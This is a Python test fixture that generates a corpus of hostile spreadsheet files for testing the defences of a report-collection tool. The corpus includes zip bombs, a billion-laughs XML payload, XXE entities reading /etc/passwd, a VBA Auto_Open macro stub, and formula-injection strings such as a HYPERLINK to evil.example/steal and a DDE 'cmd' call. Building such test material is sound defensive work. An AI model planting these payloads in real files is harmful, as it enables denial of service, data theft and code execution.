"""A hostile inbox: every kind of file a district office's folder can hold in January.

``make_corpus(inbox, soffice)`` writes, next to several good returns of the units in
:data:`UNITS`, a broken, malicious or merely odd file for each case of issue 7, and returns what
``govxl collect`` must make of each one (:class:`Expect`, keyed by the path relative to the inbox).
Everything is generated in the test run, quickly and in bounded memory: the zip bombs are written
as repeated deflate blocks of zeros (a few MB on disk for gigabytes inside), never inflated here.

The file that is replaced *while* collect runs cannot sit in this inbox (the inbox is asserted to
be unchanged); :func:`swap_versions` makes its two versions for the test that swaps them.
"""

from __future__ import annotations

import io
import os
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

from govxl.forms import load_form
from govxl.forms.layout import layout
from govxl.forms.returns import Return
from govxl.samples import random_return
from govxl.template.writer import render

FORM = "gb2021"
YEAR = 2025
from govxl.collect.status import Status  # noqa: E402

PASSED, WARNED, FAILED = Status.PASSED, Status.WARNED, Status.FAILED
MISSING, UNREADABLE = Status.MISSING, Status.UNREADABLE

UNITS = {
    "001": "正阳街道",
    "002": "西城街道",
    "003": "南湖街道",
    "004": "北湖街道",
    "005": "东城街道",
    "006": "宏镇",
    "007": "旧版乡",
    "008": "开放村",
    "009": "维度林场",
    "010": "注入测试局",
    "011": "注入数字局",
    "012": "外部链接局",
    "013": "无权限局",
    "014": "极端数字局",
}
"""The roster. 012's only return lies outside the inbox, reached by a link that is not followed."""

INJECTIONS = (
    '=HYPERLINK("http://evil.example/steal","点击查看")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
)
"""Texts that a spreadsheet would run as formulas if they were written as formulas."""
MARKERS = ("HYPERLINK", "cmd|", "@SUM", "+1+1", "evil.example")
"""Substrings that identify the injected texts wherever they end up."""

GIB = 1 << 30


@dataclass(frozen=True)
class Expect:
    """What ``govxl collect`` must make of one file of the corpus.

    ``finding`` is the code of the finding that must be on the file (None: the file is read like
    any return); ``reason`` the ``ReadError`` code behind a ``file-unreadable`` finding; ``words``
    Chinese words its message must contain; ``cells`` the ``(sheet, A1)`` places findings must
    point at. ``unit``/``status``: the roster unit the file belongs to and the status it must get.
    A key in parentheses, such as ``(unit 012)``, is about a unit with no file in the inbox.
    """

    case: str
    finding: str | None = None
    reason: str | None = None
    words: tuple[str, ...] = ()
    cells: tuple[tuple[str, str], ...] = ()
    unit: str | None = None
    status: str | None = None
    extra: dict[str, object] = field(default_factory=dict)


# ---------------------------------------------------------------- returns
def good_return(code: str, name: str | None = None, *, seed: int | None = None) -> Return:
    """A balanced, fully filled return of ``code``: on its own it passes every check."""
    form = load_form(FORM)
    rng = random.Random(f"hostile-{code}-{seed}")
    return random_return(form, rng, year=YEAR, code=code, name=name or UNITS[code])


def unbalanced(ret: Return) -> Return:
    """Three more applications carried over than the balance allows: rule R1 fails."""
    ret.values["t3.r4.business"] = int(ret.values["t3.r4.business"] or 0) + 3  # type: ignore[arg-type]
    return ret


def place(cell_id: str) -> tuple[str, str]:
    """(sheet, A1) of an input cell, from the layout the template was rendered with."""
    form = load_form(FORM)
    lay = layout(form, form.cells[cell_id].table, YEAR)
    return lay.table.sheet, lay.a1(cell_id)


def write(path: Path, ret: Return) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(render(ret))
    return path


# ---------------------------------------------------------------- zip surgery
@dataclass
class Member:
    """One zip member as stored: ``raw`` is the compressed stream, sizes are what we declare."""

    name: str
    raw: bytes
    crc: int
    size: int
    method: int = zipfile.ZIP_DEFLATED


def deflated(name: str, data: bytes) -> Member:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Member(name, c.compress(data) + c.flush(), zlib.crc32(data), len(data))


def members(xlsx: bytes) -> list[Member]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return [deflated(info.filename, zf.read(info)) for info in zf.infolist()]


def build_zip(parts: list[Member]) -> bytes:
    """Local headers, data and central directory written by hand, so any size can be declared."""
    out, central = io.BytesIO(), io.BytesIO()
    for m in parts:
        name = m.name.encode("utf-8")
        offset = out.tell()
        head = (20, 0x800, m.method, 0, 0x21, m.crc, len(m.raw), m.size, len(name), 0)
        out.write(b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *head) + name + m.raw)
        central.write(
            b"PK\x01\x02"
            + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0x800, m.method, 0, 0x21, m.crc,
                          len(m.raw), m.size, len(name), 0, 0, 0, 0, 0, offset)
            + name
        )  # fmt: skip
    cd = central.getvalue()
    end = struct.pack("<HHHHIIH", 0, 0, len(parts), len(parts), len(cd), out.tell(), 0)
    return out.getvalue() + cd + b"PK\x05\x06" + end


def replace(xlsx: bytes, changes: dict[str, Member | bytes | None]) -> bytes:
    """The workbook with members replaced (bytes are deflated, a Member is stored as given)."""
    parts = []
    for m in members(xlsx):
        if m.name not in changes:
            parts.append(m)
        elif (new := changes[m.name]) is not None:
            parts.append(new if isinstance(new, Member) else deflated(m.name, new))
    return build_zip(parts)


def read_member(xlsx: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        return zf.read(name)


def sheet_part(xlsx: bytes, sheet: str) -> str:
    """Zip member of a sheet, found through workbook.xml and its relationships."""
    book = read_member(xlsx, "xl/workbook.xml").decode("utf-8")
    rels = read_member(xlsx, "xl/_rels/workbook.xml.rels").decode("utf-8")
    rid = re.search(rf'<sheet name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', book)
    assert rid is not None, sheet
    target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"', rels)
    assert target is not None, rid.group(1)
    return "xl/" + target.group(1)


_ZEROS = bytes(1 << 20)


def zeros(name: str, mebibytes: int, *, declare: int | None = None) -> Member:
    """``mebibytes`` MiB of zeros as a deflate stream of identical blocks, without inflating.

    After a full flush deflate starts afresh, so every 1 MiB block compresses to the same ~1 KB:
    compress one, repeat it. The CRC is computed over the zeros in 1 MiB steps (fast, flat
    memory). ``declare`` writes a different uncompressed size into the headers (a liar).
    """
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(_ZEROS) + c.flush(zlib.Z_FULL_FLUSH)
    tail = c.flush()
    crc = 0
    if declare is None:  # a liar's CRC cannot match anyway: don't spend the time
        for _ in range(mebibytes):
            crc = zlib.crc32(_ZEROS, crc)
    size = mebibytes << 20 if declare is None else declare
    return Member(name, block * mebibytes + tail, crc, size)


# ---------------------------------------------------------------- hostile XML
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    + f']><sst xmlns="{MAIN_NS}"><si><t>&lol9;</t></si></sst>'
)
"""Ten levels of ten references: 10^9 copies of "lol" (3 GB) if an entity were ever expanded."""


def external_entity(url: str, *, parameter: bool = False) -> str:
    """A sharedStrings part whose DTD points at ``url`` (a file, or a server that counts hits)."""
    if parameter:  # a parameter entity is fetched while the DTD is read, even if never used
        dtd = f'<!ENTITY % ext SYSTEM "{url}"> %ext;'
    else:
        dtd = f'<!ENTITY ext SYSTEM "{url}">'
    return (
        f'<?xml version="1.0"?><!DOCTYPE sst [{dtd}]>'
        f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&ext;</t></si></sst>'
    )


# ---------------------------------------------------------------- OLE (encrypted workbook)
def compound_file(streams: dict[str, bytes]) -> bytes:
    """A minimal well-formed OLE compound file (v3, 512-byte sectors, streams >= 4096 bytes)."""
    end, free, none = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFF
    fat, body, entries = [0xFFFFFFFD, end], b"", []
    for name, payload in streams.items():
        payload = payload.ljust(4096, b"\0")
        count, start = -(-len(payload) // 512), len(fat)
        fat += [start + i + 1 for i in range(count - 1)] + [end]
        body += payload.ljust(count * 512, b"\0")
        entries.append((name, start, len(payload)))

    def entry(name: str, kind: int, start: int, size: int, child: int, right: int) -> bytes:
        raw = (name.encode("utf-16-le") + b"\0\0").ljust(64, b"\0")
        return raw + struct.pack(
            "<HBBIII16sIQQIQ", len(name) * 2 + 2, kind, 1, none, right, child, b"", 0, 0, 0,
            start, size,
        )  # fmt: skip

    directory = entry("Root Entry", 5, end, 0, 1 if entries else none, none)
    for i, (name, start, size) in enumerate(entries, 1):
        directory += entry(name, 2, start, size, none, i + 1 if i < len(entries) else none)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII", bytes.fromhex("D0CF11E0A1B11AE1"), b"", 0x3E, 3, 0xFFFE, 9, 6,
        b"", 0, 1, 1, 0, 4096, end, 0, end, 0,
    ) + struct.pack("<109I", 0, *([free] * 108))  # fmt: skip
    fat_sector = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return header + fat_sector + directory.ljust(512, b"\0") + body


def encrypted_workbook() -> bytes:
    """What Excel saves for "Encrypt with Password": an OLE file, not a zip, with the
    EncryptionInfo (agile, version 4.4) and EncryptedPackage streams."""
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00" + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption">'
        b'<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" '
        b'cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" '
        b'saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
    )
    package = struct.pack("<Q", 9000) + random.Random(7).randbytes(9008)
    return compound_file({"EncryptionInfo": info, "EncryptedPackage": package})


# ---------------------------------------------------------------- macros
def with_macros(xlsx: bytes) -> bytes:
    """The workbook as Excel saves an .xlsm: macro-enabled content type plus a VBA project."""
    types = read_member(xlsx, "[Content_Types].xml").decode("utf-8")
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(
        "</Types>",
        '<Override PartName="/xl/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    rels = (
        read_member(xlsx, "xl/_rels/workbook.xml.rels")
        .decode("utf-8")
        .replace(
            "</Relationships>",
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        )
    )
    # Auto_Open source as Excel stores it would be compressed; a marker is enough: it never runs.
    vba = compound_file({"VBA/Module1": b'Sub Auto_Open()\r\n Shell "calc.exe"\r\nEnd Sub\r\n'})
    parts = members(replace(xlsx, {
        "[Content_Types].xml": types.encode("utf-8"),
        "xl/_rels/workbook.xml.rels": rels.encode("utf-8"),
    }))  # fmt: skip
    return build_zip([*parts, deflated("xl/vbaProject.bin", vba)])


# ---------------------------------------------------------------- big sheets
def huge_dimension(xlsx: bytes, sheet: str) -> bytes:
    """The sheet claims to span every cell Excel has; the cells themselves are the template's."""
    part = sheet_part(xlsx, sheet)
    text = read_member(xlsx, part).decode("utf-8")
    text, n = re.subn(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', text)
    assert n == 1
    return replace(xlsx, {part: text.encode("utf-8")})


def many_rows(xlsx: bytes, sheet: str, rows: int) -> bytes:
    """``rows`` extra rows, one number each, below the template's table (~8 MB of XML)."""
    part = sheet_part(xlsx, sheet)
    text = read_member(xlsx, part)
    last = max(int(r) for r in re.findall(rb'<row r="([0-9]+)"', text))
    extra = b"".join(
        b'<row r="%d"><c r="F%d"><v>%d</v></c></row>' % (r, r, r)
        for r in range(last + 1, last + 1 + rows)
    )
    return replace(xlsx, {part: text.replace(b"</sheetData>", extra + b"</sheetData>", 1)})


def docx_bomb() -> bytes:
    """A Word document whose body is 1 GiB of zeros squeezed 1000:1 (sizes declared honestly)."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
        'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        "</Relationships>"
    )
    return build_zip([
        deflated("[Content_Types].xml", types.encode()),
        deflated("_rels/.rels", rels.encode()),
        zeros("word/document.xml", 1024),
    ])  # fmt: skip


# ---------------------------------------------------------------- the corpus
def unreadable(case: str, reason: str, *words: str, **kw: object) -> Expect:
    return Expect(case, "file-unreadable", reason, words, **kw)  # type: ignore[arg-type]


def make_corpus(
    folder: Path, soffice: bool, *, url: str = "http://127.0.0.1:9/govxl-xxe.dtd"
) -> dict[str, Expect]:
    """Fill ``folder`` (the inbox) and return the expected outcome of each entry in it.

    ``soffice``: LibreOffice is available, so the legacy .xls and the .ods are made from a real
    return (one conversion batch per format). ``url`` is where the external-entity files point;
    a test serves it and asserts that nothing ever asked for it.
    """
    folder.mkdir(parents=True, exist_ok=True)
    expect: dict[str, Expect] = {}

    def good(rel: str, code: str, case: str) -> None:
        write(folder / rel, good_return(code))
        expect[rel] = Expect(case, unit=code, status=PASSED)

    good("001-正阳街道.xlsx", "001", "a good return")
    good("002 西城 街道 .xlsx", "002", "spaces in the file name")
    good("003-南湖街道📊✅.xlsx", "003", "emoji in the file name")
    good("北湖街道 的附件/004-北湖街道.xlsx", "004", "Chinese folder and file name")
    good("005-东城街道（最终版）(1).xlsx", "005", "brackets of both widths in the name")

    base = render(good_return("999", "模板样本"))  # raw material for the damaged files
    t2 = load_form(FORM).tables[0].sheet

    # ------------------------------------------------ not a workbook at all
    (folder / "空文件.xlsx").write_bytes(b"")
    expect["空文件.xlsx"] = unreadable("zero bytes", "empty-file", "0 字节")
    (folder / "邮件正文.xlsx").write_text("各位领导：附件为本单位年度报表，请查收。\n", "utf-8")
    expect["邮件正文.xlsx"] = unreadable("text renamed .xlsx", "not-a-workbook", "不是有效的")
    (folder / "下载中断.xlsx").write_bytes(base[: len(base) * 3 // 5])
    expect["下载中断.xlsx"] = unreadable("truncated zip", "corrupt-zip", "损坏或不完整")
    (folder / "缺页.xlsx").write_bytes(replace(base, {sheet_part(base, t2): None}))
    expect["缺页.xlsx"] = unreadable("missing sheet part", "missing-part", t2, "缺少")

    # ------------------------------------------------ zip bombs
    part = sheet_part(base, t2)
    (folder / "炸弹-声明3GB.xlsx").write_bytes(replace(base, {part: zeros(part, 3 * 1024)}))
    expect["炸弹-声明3GB.xlsx"] = unreadable(
        "a sheet declared to inflate to 3 GiB", "zip-bomb", "声明", "3072.0 MB",
        extra={"inflates": 3 * GIB},
    )  # fmt: skip
    (folder / "炸弹-压缩比.xlsx").write_bytes(replace(base, {part: zeros(part, 60)}))
    expect["炸弹-压缩比.xlsx"] = unreadable(
        "a sheet of 60 MiB squeezed 1000:1", "zip-bomb", "压缩比异常", extra={"inflates": 60 << 20}
    )
    liar = zeros(part, 3 * 1024, declare=8000)
    (folder / "炸弹-谎报大小.xlsx").write_bytes(replace(base, {part: liar}))
    expect["炸弹-谎报大小.xlsx"] = unreadable(
        "a sheet declared 8 kB that inflates to 3 GiB", "zip-bomb", "实际解压大小超过声明值",
        extra={"inflates": 3 * GIB},
    )  # fmt: skip

    # ------------------------------------------------ XML entities
    sst = "xl/sharedStrings.xml"
    hostile_xml = {
        "实体-十亿笑.xlsx": ("billion laughs", BILLION_LAUGHS),
        "实体-本机文件.xlsx": ("external entity file:///etc/passwd",
                              external_entity("file:///etc/passwd")),
        "实体-网址.xlsx": ("external entity at an http URL", external_entity(url)),
        "实体-参数网址.xlsx": ("parameter entity at an http URL",
                              external_entity(url, parameter=True)),
    }  # fmt: skip
    for rel, (case, xml) in hostile_xml.items():
        (folder / rel).write_bytes(replace(base, {sst: xml.encode("utf-8")}))
        expect[rel] = unreadable(case, "xml-entity", "不安全的 XML 实体")

    # ------------------------------------------------ encrypted, macros, old formats
    (folder / "加密.xlsx").write_bytes(encrypted_workbook())
    expect["加密.xlsx"] = unreadable("password-encrypted workbook", "encrypted", "密码")
    # unbalanced, so that a copy is sent back: the copy must not carry the macro back
    (folder / "006-宏镇.xlsm").write_bytes(with_macros(render(unbalanced(good_return("006")))))
    expect["006-宏镇.xlsm"] = Expect(
        ".xlsm with a VBA project", "macro-present", words=("宏",), unit="006", status=FAILED
    )
    if soffice:
        from govxl.office import convert

        src = folder.parent / f"{folder.name}-lo"
        xls_src = write(src / "xls" / "007-旧版乡.xlsx", good_return("007"))
        ods_src = write(src / "ods" / "008-开放村.xlsx", good_return("008"))
        xls = convert([xls_src], src / "out", "xls")[xls_src]
        ods = convert([ods_src], src / "out", "ods")[ods_src]
        (folder / "007-旧版乡.xls").write_bytes(xls.read_bytes())
        (folder / "008-开放村.ods").write_bytes(ods.read_bytes())
        for rel, code, case in (("007-旧版乡.xls", "007", "legacy .xls"),
                                ("008-开放村.ods", "008", ".ods")):  # fmt: skip
            expect[rel] = Expect(
                case, "formulas-unknown", words=("只能读取数值",), unit=code, status=PASSED
            )
    else:  # without LibreOffice no .xls or .ods can be made: the two units send .xlsx
        for code in ("007", "008"):
            rel = f"{code}-{UNITS[code]}.xlsx"
            (folder / rel).write_bytes(render(good_return(code)))
            expect[rel] = Expect("a good return", unit=code, status=PASSED)

    # ------------------------------------------------ huge sheets
    dim = huge_dimension(render(good_return("009")), t2)
    (folder / "009-维度林场.xlsx").write_bytes(dim)
    expect["009-维度林场.xlsx"] = Expect("dimension A1:XFD1048576", unit="009", status=PASSED)
    (folder / "二十万行.xlsx").write_bytes(many_rows(base, t2, 200_000))
    expect["二十万行.xlsx"] = unreadable(
        "a sheet with 200,000 rows", "too-many-cells", t2, "超过 200000 个"
    )

    # ------------------------------------------------ things that are not files
    (folder / "x.xlsx").mkdir()
    expect["x.xlsx"] = unreadable("a folder named x.xlsx", "not-a-file", "文件夹")
    outside = write(folder.parent / f"{folder.name}-外部" / "012-外部链接局.xlsx",
                    good_return("012"))  # fmt: skip
    (folder / "外部链接.xlsx").symlink_to(outside)
    expect["外部链接.xlsx"] = unreadable(
        "a link to a return outside the inbox", "not-a-file", "链接"
    )
    expect["(unit 012)"] = Expect("the linked return is not read", unit="012", status=MISSING)
    (folder / "回环.xlsx").symlink_to("回环.xlsx")
    expect["回环.xlsx"] = unreadable("a link to itself", "not-a-file", "链接")
    (folder / "循环目录").symlink_to(".", target_is_directory=True)  # never walked into
    os.mkfifo(folder / "管道.xlsx")  # opening it would block forever
    expect["管道.xlsx"] = unreadable("a named pipe", "not-a-file", "不是一个普通文件")
    os.mkfifo(folder / "管道报告.txt")  # a report's name: read by the importer, not the reader
    expect["管道报告.txt"] = unreadable("a named pipe named as a report", "not-a-file", "管道")

    # ------------------------------------------------ a report (Word) that is a zip bomb
    (folder / "报告-炸弹.docx").write_bytes(docx_bomb())
    expect["报告-炸弹.docx"] = unreadable("a .docx report inflating to 1 GiB", "report", "过大")

    # ------------------------------------------------ no permission to read
    locked = write(folder / "013-无权限局.xlsx", good_return("013"))
    locked.chmod(0)
    if os.access(locked, os.R_OK):  # root (CAP_DAC_OVERRIDE) reads it anyway: honestly so
        expect["013-无权限局.xlsx"] = Expect("chmod 000, read as root", unit="013", status=PASSED)
    else:
        expect["013-无权限局.xlsx"] = unreadable(
            "chmod 000", "unreadable", "没有读取该文件的权限", unit="013", status=UNREADABLE
        )

    # ------------------------------------------------ formula injection
    ret = good_return("010")
    ret.unit_name = INJECTIONS[0]
    ret.texts = {"p1": INJECTIONS[0], "p5": INJECTIONS[1], "p6": INJECTIONS[2]}
    ret.notes = [(INJECTIONS[3], INJECTIONS[1]), (INJECTIONS[2], INJECTIONS[0])]
    ret.info = {"contact": INJECTIONS[1], "phone": INJECTIONS[3], "signed": INJECTIONS[2]}
    write(folder / "010-注入.xlsx", ret)
    expect["010-注入.xlsx"] = Expect("unit name, texts and notes begin with =, @, +",
                                    unit="010", status=PASSED)  # fmt: skip
    ret = good_return("011")
    typed = ("t2.rules.issued", "t2.rules.repealed", "t2.normative.issued", "t3.r1.natural")
    for cell_id, text in zip(typed, INJECTIONS, strict=True):
        ret.values[cell_id] = text
    write(folder / "011-注入数字.xlsx", ret)
    expect["011-注入数字.xlsx"] = Expect(
        "formulas typed as text into number cells", "not-a-number",
        cells=tuple(place(c) for c in typed), unit="011", status=FAILED,
    )  # fmt: skip
    stranger = good_return("011")
    stranger.unit_code, stranger.unit_name = "998", INJECTIONS[1]
    write(folder / "外单位.xlsx", stranger)
    expect["外单位.xlsx"] = Expect("unknown unit whose name is a formula", "unknown-unit")

    # ------------------------------------------------ extreme numbers
    ret = good_return("014")
    extreme = {
        "t2.rules.issued": 1e300,
        "t2.rules.repealed": "NaN",
        "t2.normative.issued": -0.0,
        "t2.normative.repealed": 99999999999,
    }
    ret.values.update(extreme)  # type: ignore[arg-type]
    ret.values["t2.fees.fee_amount"] = Decimal("1e300")
    write(folder / "014-极端数字.xlsx", ret)
    expect["014-极端数字.xlsx"] = Expect(
        "1e300, NaN as text, -0 and 99999999999 in input cells", "too-large",
        cells=(place("t2.rules.issued"), place("t2.rules.repealed"),
               place("t2.normative.repealed"), place("t2.fees.fee_amount")),
        unit="014", status=FAILED,
        extra={"zero": place("t2.normative.issued"), "not-a-number": place("t2.rules.repealed")},
    )  # fmt: skip
    return expect


def write_roster(path: Path) -> Path:
    path.write_text(
        "单位代码,单位名称\n" + "".join(f"{c},{n}\n" for c, n in UNITS.items()), encoding="utf-8"
    )
    return path


def swap_versions(folder: Path, count: int = 6) -> dict[str, tuple[bytes, bytes]]:
    """``count`` returns, each in two valid versions that differ in a figure.

    Both versions fail a rule on purpose, so ``--feedback`` writes a copy for each: the copy,
    the recorded sha256 and the recorded figures must all be of one version.
    """
    out = {}
    for i in range(count):
        code = f"{i + 1:03d}"
        versions = []
        for published in (111, 222):
            ret = good_return(code, f"单位{code}")
            ret.values["t2.rules.issued"] = published
            versions.append(render(unbalanced(ret)))
        out[f"{code}-单位{code}.xlsx"] = (versions[0], versions[1])
        (folder / f"{code}-单位{code}.xlsx").write_bytes(versions[0])
    return out
